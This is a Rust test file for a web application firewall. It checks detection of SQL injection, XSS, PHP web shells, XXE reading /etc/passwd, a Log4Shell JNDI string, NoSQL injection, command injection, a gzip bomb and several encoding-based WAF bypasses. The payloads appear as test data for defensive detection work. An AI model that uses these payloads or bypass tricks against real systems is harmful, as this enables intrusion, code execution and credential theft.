//! The WAF as the proxy calls it: bodies of every kind, Content-Encoding, body limits,
//! methods, detection-only mode, disabled and skipped rules, and the issue-14 bypasses.

use edgeward_waf::{Category, OversizeAction, Sensitivity, Verdict, Waf, WafInput, WafRequest};
use flate2::write::GzEncoder;
use flate2::Compression;
use std::io::Write;

fn gzip(b: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn post<'a>(headers: &'a [(&'a str, &'a [u8])], ctype: &'a str, body: &'a [u8]) -> WafInput<'a> {
    WafInput {
        path: "/submit",
        query: "",
        headers,
        body: Some((ctype, body)),
    }
}

fn rule(waf: &Waf, input: &WafInput<'_>) -> Option<&'static str> {
    waf.inspect(input).map(|m| m.rule_id)
}

fn multipart(parts: &[(&str, Option<&str>, &str, &[u8])]) -> Vec<u8> {
    let mut b = Vec::new();
    for (name, filename, ctype, content) in parts {
        b.extend_from_slice(b"--XyZ\r\nContent-Disposition: form-data; name=\"");
        b.extend_from_slice(name.as_bytes());
        b.push(b'"');
        if let Some(f) = filename {
            b.extend_from_slice(format!("; filename=\"{f}\"").as_bytes());
        }
        b.extend_from_slice(format!("\r\nContent-Type: {ctype}\r\n\r\n").as_bytes());
        b.extend_from_slice(content);
        b.extend_from_slice(b"\r\n");
    }
    b.extend_from_slice(b"--XyZ--\r\n");
    b
}

#[test]
fn multipart_names_values_filenames_and_files() {
    let waf = Waf::new(Sensitivity::Medium);
    let ct = "multipart/form-data; boundary=XyZ";
    let benign = multipart(&[
        ("title", None, "text/plain", b"Holiday photos"),
        (
            "photo",
            Some("beach.png"),
            "image/png",
            b"\x89PNG\r\n\x1a\n\0\0binary",
        ),
    ]);
    assert_eq!(rule(&waf, &post(&[], ct, &benign)), None);
    let value = multipart(&[("q", None, "text/plain", b"1' union select password from users--")]);
    assert_eq!(rule(&waf, &post(&[], ct, &value)), Some("waf-sqli-100"));
    let name = multipart(&[("<svg onload=alert(1)>", None, "text/plain", b"x")]);
    assert_eq!(rule(&waf, &post(&[], ct, &name)), Some("waf-xss-201"));
    let file = multipart(&[(
        "f",
        Some("notes.txt"),
        "text/plain",
        b"hello\n<?php system($_GET['c']); ?>\n",
    )]);
    assert_eq!(rule(&waf, &post(&[], ct, &file)), Some("waf-php-800"));
    let shell = multipart(&[("f", Some("shell.php"), "image/gif", b"GIF89a")]);
    assert_eq!(rule(&waf, &post(&[], ct, &shell)), Some("waf-php-804"));
    let gif = multipart(&[(
        "f",
        Some("a.gif"),
        "image/gif",
        b"GIF89a\x01\x02<?php eval($_POST[1]);",
    )]);
    assert_eq!(rule(&waf, &post(&[], ct, &gif)), Some("waf-php-800"));
    assert_eq!(
        rule(&waf, &post(&[], "multipart/form-data", &value)),
        Some("waf-proto-907")
    );
}

#[test]
fn xml_soap_text_and_untyped_bodies() {
    let waf = Waf::new(Sensitivity::Medium);
    let xxe = br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let m = waf.inspect(&post(&[], "application/xml", xxe)).unwrap();
    assert_eq!(m.category, Category::Xxe);
    let soap = br#"<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><login><user>admin' OR '1'='1</user></login></soap:Body></soap:Envelope>"#;
    assert_eq!(rule(&waf, &post(&[], "text/xml", soap)), Some("waf-sqli-101"));
    let escaped = b"<r><c>&lt;script&gt;alert(1)&lt;/script&gt;</c></r>";
    assert_eq!(
        rule(&waf, &post(&[], "application/soap+xml", escaped)),
        Some("waf-xss-200")
    );
    let fine = b"<order><id>42</id><note>Leave at the door &amp; ring</note></order>";
    assert_eq!(rule(&waf, &post(&[], "application/xml", fine)), None);
    assert_eq!(
        rule(&waf, &post(&[], "text/plain", b"${jndi:ldap://x.example/a}")),
        Some("waf-java-700")
    );
    assert_eq!(
        rule(&waf, &post(&[], "", b"a=1&b=%3Cscript%3Ealert(1)")),
        Some("waf-xss-200")
    );
    assert_eq!(
        rule(&waf, &post(&[], "", br#"{"user":{"$ne":null}}"#)),
        Some("waf-nosql-1200")
    );
    let padded = format!("{}\n; cat /etc/passwd", "lorem ipsum ".repeat(10_000));
    assert!(waf.inspect(&post(&[], "text/plain", padded.as_bytes())).is_some());
}

#[test]
fn content_encoding_is_decoded_under_a_bound() {
    let waf = Waf::new(Sensitivity::Medium);
    let gz: &[(&str, &[u8])] = &[("Content-Encoding", b"gzip")];
    let benign = gzip(b"name=Ada&comment=Nice+post");
    assert_eq!(
        rule(&waf, &post(gz, "application/x-www-form-urlencoded", &benign)),
        None
    );
    let attack = gzip(br#"{"q":"1 union select 1,2,3--"}"#);
    assert_eq!(
        rule(&waf, &post(gz, "application/json", &attack)),
        Some("waf-sqli-100")
    );
    let bomb = gzip(&vec![b'a'; 64 * 1024 * 1024]);
    let req = WafRequest {
        method: "POST",
        input: post(gz, "text/plain", &bomb),
        body_complete: true,
        skip_rules: &[],
    };
    let Verdict::TooLarge(m) = waf.inspect_request(&req) else {
        panic!("a bomb is refused for its size");
    };
    assert_eq!(m.rule_id, "waf-proto-911");
    let zstd: &[(&str, &[u8])] = &[("Content-Encoding", b"zstd")];
    assert_eq!(rule(&waf, &post(zstd, "text/plain", b"x")), None);
    assert_eq!(
        rule(&Waf::new(Sensitivity::High), &post(zstd, "text/plain", b"x")),
        Some("waf-proto-908")
    );
}

#[test]
fn oversize_methods_modes_and_switches() {
    let waf = Waf::new(Sensitivity::Medium).with_body_limit(16);
    let body = b"a=hello&b=this+is+longer+than+sixteen";
    let req = |method, complete| WafRequest {
        method,
        input: post(&[], "application/x-www-form-urlencoded", body),
        body_complete: complete,
        skip_rules: &[],
    };
    assert!(
        matches!(waf.inspect_request(&req("POST", false)), Verdict::Log(m) if m.rule_id == "waf-proto-910")
    );
    let strict = waf.clone().with_oversize_action(OversizeAction::Block);
    assert!(
        matches!(strict.inspect_request(&req("POST", true)), Verdict::TooLarge(m) if m.rule_id == "waf-proto-910")
    );
    let waf = Waf::new(Sensitivity::Medium);
    assert_eq!(waf.inspect_request(&req("POST", true)), Verdict::Pass);
    assert!(
        matches!(waf.inspect_request(&req("TRACE", true)), Verdict::Block(m) if m.rule_id == "waf-proto-900")
    );
    let dav = Waf::new(Sensitivity::Medium).with_allowed_methods(["GET", "PROPFIND"]);
    assert_eq!(
        dav.inspect_request(&WafRequest {
            method: "PROPFIND",
            ..req("GET", true)
        }),
        Verdict::Pass
    );

    let attack = WafInput {
        path: "/",
        query: "q=1%20union%20select%201,2",
        headers: &[],
        body: None,
    };
    let areq = WafRequest {
        method: "GET",
        input: attack,
        body_complete: true,
        skip_rules: &[],
    };
    assert!(matches!(waf.inspect_request(&areq), Verdict::Block(_)));
    assert!(matches!(
        waf.clone().detection_only(true).inspect_request(&areq),
        Verdict::Log(_)
    ));
    let off = Waf::new(Sensitivity::Medium)
        .with_disabled_rules(["waf-sqli"])
        .unwrap();
    assert_eq!(off.inspect_request(&areq), Verdict::Pass);
    assert_eq!(
        waf.inspect_request(&WafRequest {
            skip_rules: &["waf-sqli-100"],
            ..areq
        }),
        Verdict::Pass
    );
    assert!(Waf::new(Sensitivity::Medium)
        .with_disabled_rules(["waf-nope-1"])
        .is_err());
}

#[test]
fn issue_14_bypasses_are_closed() {
    let waf = Waf::new(Sensitivity::Medium);
    let q = |query: &str| {
        let input = WafInput {
            path: "/p",
            query,
            headers: &[],
            body: None,
        };
        waf.inspect(&input).map(|m| m.rule_id)
    };
    assert!(q("q=1%2520union%2520select%25201%2C2").is_some());
    assert!(q("q=/*!%55NiOn*/%20/*!%53eLEct*/").is_some());
    assert!(q("id=1e1AND-0.0UNION%20SELECT%202").is_some());
    assert!(q("c=;ti''me").is_some() || q("c=%3Bti''me%20sleep%205").is_some());
    assert!(q("c=%7B,echo,x%7D").is_some());
    assert!(q("c=$(printf%20'di'|rev)").is_some());
    let ua: &[(&str, &[u8])] = &[("User-Agent", b"urlgrabber/3.10 yum/3.4.3")];
    assert_eq!(
        waf.inspect(&WafInput {
            path: "/repodata/repomd.xml",
            query: "",
            headers: ua,
            body: None
        }),
        None
    );
    for path in ["/.env", "/.git/config", "/foo.bak"] {
        assert!(
            waf.inspect(&WafInput {
                path,
                query: "",
                headers: &[],
                body: None
            })
            .is_some(),
            "{path}"
        );
    }
}
